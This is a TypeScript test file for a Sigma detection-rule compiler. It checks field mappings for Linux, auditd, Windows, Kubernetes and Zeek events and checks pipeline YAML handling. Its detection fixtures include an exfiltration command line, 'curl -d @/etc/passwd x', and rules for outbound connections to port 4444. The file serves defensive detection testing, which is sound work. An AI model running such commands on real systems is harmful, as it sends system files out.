// Pipelines: the pySigma YAML subset, and the built-ins that map SigmaHQ names onto our events.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compileRules, parseSigmaText, builtinPipelines, parsePipeline } from '../index.js';
import type { StowawayEvent, LogSource } from '../../model/event.js';

const rule = (logsource: string, detection: string) =>
  parseSigmaText(
    `title: t\nid: 11111111-2222-4333-8444-555555555555\nlogsource:\n${logsource.replace(/^/gm, '  ')}\ndetection:\n${detection.replace(/^/gm, '  ')}\n`,
    'p.yml',
  );
const ev = (logsource: LogSource, fields: Record<string, unknown>): StowawayEvent => ({
  '@timestamp': '2026-01-01T00:00:00Z',
  event: {},
  stowaway: { source: 't', logsource },
  ...fields,
});

test('built-in Linux taxonomy: Image, CommandLine, ParentImage, User, Initiated', () => {
  const r = rule(
    'product: linux\ncategory: process_creation',
    "sel:\n  Image|endswith: /curl\n  CommandLine|contains: ' -d '\n  ParentImage: /bin/bash\n  User: www-data\ncondition: sel",
  );
  const { ruleset } = compileRules(r);
  const ls = { product: 'linux', category: 'process_creation', service: 'auditd' };
  assert.equal(
    ruleset.match(
      ev(ls, {
        process: { executable: '/usr/bin/curl', command_line: 'curl -d @/etc/passwd x', parent: { executable: '/bin/bash' } },
        user: { name: 'www-data' },
      }),
    ).length,
    1,
  );
  const n = rule('product: linux\ncategory: network_connection', "sel:\n  Initiated: 'true'\n  DestinationPort: 4444\ncondition: sel");
  const r2 = compileRules(n).ruleset;
  assert.equal(
    r2.match(ev({ product: 'linux', category: 'network_connection' }, { network: { direction: 'outbound' }, destination: { port: 4444 } })).length,
    1,
  );
  assert.equal(
    r2.match(ev({ product: 'linux', category: 'network_connection' }, { network: { direction: 'inbound' }, destination: { port: 4444 } })).length,
    0,
  );
});

test('built-in auditd: fields read auditd.records[] with any-element semantics', () => {
  const r = rule('product: linux\nservice: auditd', 'sel:\n  type: EXECVE\n  a0: tcpdump\ncondition: sel');
  const { ruleset } = compileRules(r);
  const ls = { product: 'linux', category: 'process_creation', service: 'auditd' };
  assert.equal(
    ruleset.match(
      ev(ls, {
        auditd: {
          records: [
            { type: 'SYSCALL', exe: '/usr/bin/tcpdump' },
            { type: 'EXECVE', a0: 'tcpdump', a1: '-i' },
          ],
        },
      }),
    ).length,
    1,
  );
  assert.equal(ruleset.match(ev(ls, { auditd: { records: [{ type: 'EXECVE', a0: 'ls' }] } })).length, 0);
});

test('built-in Windows: ECS where there is a home, winlog.event_data otherwise, EventID and Channel', () => {
  const r = rule('product: windows\ncategory: process_creation', "sel:\n  Image|endswith: '\\\\cmd.exe'\n  IntegrityLevel: High\n  EventID: 1\ncondition: sel");
  const { ruleset } = compileRules(r);
  const ls = { product: 'windows', category: 'process_creation', service: 'sysmon' };
  assert.equal(
    ruleset.match(ev(ls, { process: { executable: 'C:\\Windows\\System32\\cmd.exe' }, winlog: { event_id: 1, event_data: { IntegrityLevel: 'High' } } }))
      .length,
    1,
  );
  const s = rule('product: windows\nservice: security', 'sel:\n  EventID: 4624\n  LogonType: 10\n  Channel: Security\ncondition: sel');
  assert.equal(
    compileRules(s).ruleset.match(
      ev({ product: 'windows', service: 'security' }, { winlog: { event_id: 4624, channel: 'Security', event_data: { LogonType: '10' } } }),
    ).length,
    1,
  );
});

test('built-in Kubernetes audit and Zeek', () => {
  const k = rule('product: kubernetes\nservice: audit', 'sel:\n  verb: create\n  objectRef.resource: pods\n  objectRef.subresource: exec\ncondition: sel');
  const ks = compileRules(k).ruleset;
  assert.equal(
    ks.match(
      ev(
        { product: 'kubernetes', category: 'application', service: 'audit' },
        { kubernetes: { audit: { verb: 'create', objectRef: { resource: 'pods', subresource: 'exec' } } } },
      ),
    ).length,
    1,
  );
  // normalized fields keep their names; the raw audit event is read under kubernetes.audit
  const n = rule('product: kubernetes\nservice: audit', 'sel:\n  verb: create\n  orchestrator.pod.privileged: true\ncondition: sel');
  const ns = compileRules(n).ruleset;
  const k8s = { product: 'kubernetes', category: 'application', service: 'audit' };
  assert.equal(ns.match(ev(k8s, { orchestrator: { pod: { privileged: true } }, kubernetes: { audit: { verb: 'create' } } })).length, 1);
  assert.equal(ns.match(ev(k8s, { kubernetes: { audit: { verb: 'create', orchestrator: { pod: { privileged: true } } } } })).length, 0);
  const z = rule('product: zeek\nservice: conn', 'sel:\n  id.resp_p: 4444\ncondition: sel');
  const zs = compileRules(z).ruleset;
  assert.equal(zs.match(ev({ product: 'zeek', category: 'network_connection', service: 'conn' }, { zeek: { conn: { 'id.resp_p': 4444 } } })).length, 1);
});

test('rules for logsources without a built-in mapping pass through unchanged (ECS names)', () => {
  const r = rule('product: docker\ncategory: container', 'sel:\n  container.privileged: true\ncondition: sel');
  assert.equal(
    compileRules(r).ruleset.match(ev({ product: 'docker', category: 'container', service: 'events' }, { container: { privileged: true } })).length,
    1,
  );
});

test('pipeline YAML: mapping, prefix mapping, add_condition, change_logsource, replace_string, placeholders, drop', () => {
  const yaml = `name: site
priority: 10
vars:
  admins: [root, 'adm_*']
transformations:
  - id: names
    type: field_name_mapping
    mapping:
      Account: [user.name, user.effective.name]
    rule_conditions:
      - type: logsource
        product: myapp
  - type: field_name_prefix_mapping
    mapping:
      Req.: http.request.
  - type: replace_string
    regex: '^C:'
    replacement: '/mnt/c'
    field_name_conditions:
      - type: include_fields
        fields: [Path]
  - type: value_placeholders
  - type: drop_detection_item
    field_name_conditions:
      - type: include_fields
        fields: [Noise]
  - type: add_condition
    conditions:
      tenant: acme
  - type: change_logsource
    product: linux
    service: myapp
`;
  const p = parsePipeline(yaml, 'site.yml');
  assert.deepEqual(p.diagnostics, []);
  const r = rule(
    'product: myapp',
    "sel:\n  Account|expand: '%admins%'\n  Req.method: POST\n  Path|startswith: 'C:\\\\data'\n  Noise: whatever\ncondition: sel",
  );
  const { ruleset, diagnostics } = compileRules(r, { pipelines: [p.pipeline!] });
  assert.deepEqual(diagnostics, []);
  const ls = { product: 'linux', service: 'myapp' };
  const good = { user: { effective: { name: 'adm_x' } }, http: { request: { method: 'POST' } }, Path: '/mnt/c\\data\\x', tenant: 'acme' };
  assert.equal(ruleset.match(ev(ls, good)).length, 1);
  assert.equal(ruleset.match(ev(ls, { ...good, tenant: 'other' })).length, 0, 'add_condition');
  assert.equal(ruleset.match(ev({ product: 'myapp' }, good)).length, 0, 'change_logsource re-routes the rule');
  assert.equal(ruleset.match(ev(ls, { ...good, user: { name: 'bob' } })).length, 0);
});

test('pipeline YAML: unsupported parts are refused loudly; rule_failure refuses rules', () => {
  assert.equal(parsePipeline('transformations:\n  - type: frobnicate\n', 'x.yml').diagnostics[0]?.code, 'pipeline-unsupported');
  assert.equal(parsePipeline('nope: 1\n', 'x.yml').diagnostics[0]?.code, 'pipeline-invalid');
  assert.equal(parsePipeline('transformations: [\n', 'x.yml').diagnostics[0]?.code, 'yaml-syntax');
  const p = parsePipeline(
    'transformations:\n  - type: rule_failure\n    message: no macOS here\n    rule_conditions:\n      - type: logsource\n        product: macos\n',
    'x.yml',
  ).pipeline!;
  const r = rule('product: macos', 'sel:\n  a: 1\ncondition: sel');
  assert.equal(compileRules(r, { pipelines: [p, ...builtinPipelines()] }).diagnostics[0]?.code, 'pipeline-refused');
});
